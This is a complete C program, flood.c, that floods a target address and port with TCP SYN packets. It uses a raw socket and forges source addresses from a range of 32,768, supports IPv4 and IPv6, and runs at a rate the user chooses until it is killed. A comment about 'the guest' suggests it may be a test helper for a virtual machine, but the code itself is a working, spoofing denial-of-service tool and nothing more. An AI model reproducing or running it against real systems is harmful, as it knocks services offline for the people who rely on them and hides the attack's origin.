/*
 * flood.c - TCP SYNs from addresses that nobody has, until it is ended.
 *
 * usage: flood ADDRESS PORT FROM RATE      as root
 *
 * FROM is the first of 32,768 addresses; RATE is thousands a second: with more
 * than the wire holds, that is what is seen, and not what the guest does. Says
 * "flooding" after three seconds.
 */
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

struct packet4 {
    struct iphdr ip;
    struct tcphdr tcp;
};

struct packet6 {
    struct ip6_hdr ip;
    struct tcphdr tcp;
};

/* The sum of 16-bit words [RFC 1071]. */
static uint32_t sum(const void *data, size_t n)
{
    uint32_t total = 0;
    uint16_t word;

    for (size_t i = 0; i < n; i += sizeof(word)) {
        memcpy(&word, (const char *)data + i, sizeof(word));
        total += word;
    }
    return total;
}

static uint16_t fold(uint32_t total)
{
    while (total >> 16)
        total = (total & 0xffff) + (total >> 16);
    return (uint16_t)~total;
}

/* A SYN; @addresses is the sum of both. */
static struct tcphdr syn(uint16_t port, uint32_t addresses)
{
    struct tcphdr tcp = {
        .source = htons((uint16_t)(1024 + random() % 60000)),
        .dest = htons(port),
        .seq = (uint32_t)random(),
        .doff = 5,
        .syn = 1,
        .window = htons(64240),
    };

    tcp.check = fold(sum(&tcp, sizeof(tcp)) + addresses + htons(IPPROTO_TCP) +
                     htons(sizeof(tcp)));
    return tcp;
}

static struct packet4 make4(in_addr_t from, in_addr_t to, uint16_t port)
{
    struct packet4 p = {
        .ip = {.version = 4,
               .ihl = 5,
               .ttl = 64,
               .protocol = IPPROTO_TCP,
               .tot_len = htons(sizeof(p)),
               .saddr = htonl(ntohl(from) + (uint32_t)(random() & 0x7fff)),
               .daddr = to},
    };

    p.ip.check = fold(sum(&p.ip, sizeof(p.ip)));
    p.tcp = syn(port, sum(&p.ip.saddr, 8));
    return p;
}

static struct packet6 make6(struct in6_addr from, struct in6_addr to,
                            uint16_t port)
{
    struct packet6 p = {.ip = {.ip6_src = from, .ip6_dst = to}};

    p.ip.ip6_vfc = 6 << 4;
    p.ip.ip6_plen = htons(sizeof(p.tcp));
    p.ip.ip6_nxt = IPPROTO_TCP;
    p.ip.ip6_hlim = 64;
    p.ip.ip6_src.s6_addr16[7] = htons((uint16_t)(random() & 0x7fff));
    p.tcp = syn(port, sum(&p.ip.ip6_src, 32));
    return p;
}

/* From argv[3] and some to argv[1]. */
static void send_one(int fd, bool v6, char **argv)
{
    uint16_t port = (uint16_t)atoi(argv[2]);
    struct sockaddr_in6 to6 = {.sin6_family = AF_INET6};
    struct sockaddr_in to4 = {.sin_family = AF_INET};
    struct in6_addr from6;
    in_addr_t from4;
    ssize_t n;

    if (v6 && inet_pton(AF_INET6, argv[1], &to6.sin6_addr) == 1 &&
        inet_pton(AF_INET6, argv[3], &from6) == 1) {
        struct packet6 p = make6(from6, to6.sin6_addr, port);
        n = sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to6, sizeof(to6));
    } else if (!v6 && inet_pton(AF_INET, argv[1], &to4.sin_addr) == 1 &&
               inet_pton(AF_INET, argv[3], &from4) == 1) {
        struct packet4 p = make4(from4, to4.sin_addr.s_addr, port);
        n = sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to4, sizeof(to4));
    } else {
        errx(2, "%s, %s: no addresses", argv[1], argv[3]);
    }
    if (n < 0 && errno != ENOBUFS)
        err(1, "SYN");
}

int main(int argc, char **argv)
{
    bool v6 = argc > 1 && strchr(argv[1], ':');
    struct timespec next;
    long rate;
    int fd;

    if (argc != 5 || (rate = atol(argv[4])) < 1)
        errx(2, "usage: flood ADDRESS PORT FROM RATE");
    fd = socket(v6 ? AF_INET6 : AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0)
        err(1, "raw socket");
    clock_gettime(CLOCK_MONOTONIC, &next);
    for (long ms = 0;; ms++) {
        for (long i = 0; i < rate; i++)
            send_one(fd, v6, argv);
        if (ms == 3000)
            puts("flooding");
        fflush(stdout);
        next.tv_nsec += 1000000;
        next.tv_sec += next.tv_nsec / 1000000000;
        next.tv_nsec %= 1000000000;
        clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
    }
}
